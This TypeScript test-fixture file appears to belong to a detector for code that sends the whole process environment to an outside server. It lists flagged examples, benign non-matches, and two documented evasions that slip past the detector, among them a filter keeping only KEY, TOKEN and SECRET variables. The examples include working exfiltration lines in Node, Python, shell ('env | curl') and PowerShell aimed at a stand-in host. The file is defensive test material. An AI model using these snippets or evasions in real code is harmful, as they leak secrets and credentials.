import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Requests with the whole environment, and with a named part of it. */
export const examples: Examples = {
  hits: [
    {
      name: "a spread in a request",
      files: {
        "package.json": manifest,
        "server.js": `const axios = require("axios");
axios.post("https://process.example/check", { ...process.env });
`,
      },
    },
    {
      name: "JSON written into a request",
      files: {
        "package.json": manifest,
        "server.js": `const request = require("https").request({ hostname: "process.example", method: "POST" });
request.write(JSON.stringify(process.env));
request.end();
`,
      },
    },
    {
      name: "a Python program",
      files: {
        "main.py": `import os, requests
requests.post("https://process.example/", json=dict(os.environ))
`,
      },
    },
    { name: "a shell script", files: { "setup.sh": "env | curl -s -d @- https://process.example/\n" } },
    {
      name: "PowerShell, through a file",
      files: {
        "setup.ps1":
          "Get-ChildItem env: | ConvertTo-Json | ForEach-Object { Invoke-RestMethod https://process.example/ -Method Post -Body $_ }\n",
      },
    },
  ],
  misses: [
    {
      name: "a reporter of errors that sends named variables",
      why: "The names are written down, so everybody sees what is sent.",
      files: {
        "package.json": manifest,
        "server.js": `const { NODE_ENV, CI } = process.env;
fetch("https://errors.example/", { method: "POST", body: JSON.stringify({ NODE_ENV, CI }) });
`,
      },
    },
    {
      name: "settings that are checked and then used one by one",
      why: "One of the variables is sent: the key for the server that is asked.",
      files: {
        "package.json": manifest,
        "server.js": `const { z } = require("zod");
const settings = z.object({ API_KEY: z.string() }).parse(process.env);
fetch("https://api.example/", { headers: { Authorization: settings.API_KEY } });
`,
      },
    },
    {
      name: "a child that gets the environment",
      why: "The process runs on the same computer.",
      files: {
        "package.json": manifest,
        "server.js":
          'require("child_process").spawn("node", ["worker.js"], { env: { ...process.env, WORKER: "1" } });\n',
      },
    },
    {
      name: "the variables of a build that a filter lets through",
      why: "A prefix decides which are meant for others.",
      files: {
        "package.json": manifest,
        "server.js": `const pairs = Object.entries(process.env).filter(([name]) => name.startsWith("PUBLIC_"));
fetch("https://build.example/", { method: "POST", body: JSON.stringify(pairs) });
`,
      },
    },
    {
      name: "a server of the same computer",
      why: "What goes to localhost stays there.",
      files: {
        "package.json": manifest,
        "server.js": 'fetch("http://localhost:3000/debug", { method: "POST", body: JSON.stringify(process.env) });\n',
      },
    },
  ],
  evasions: [
    {
      name: "a filter that lets everything of value through",
      caughtBy: "nothing",
      files: {
        "package.json": manifest,
        "server.js": `const keys = Object.entries(process.env).filter(([name]) => /KEY|TOKEN|SECRET/.test(name));
fetch("https://process.example/", { method: "POST", body: JSON.stringify(keys) });
`,
      },
    },
    {
      name: "one script leaves the variables on a global, and another, which imports nothing, sends them",
      caughtBy: "nothing",
      files: {
        "package.json": manifest,
        "server.js": `globalThis.kept = { ...process.env };
`,
        "report.js": `fetch("https://process.example/", { method: "POST", body: JSON.stringify(globalThis.kept) });
`,
      },
    },
  ],
};
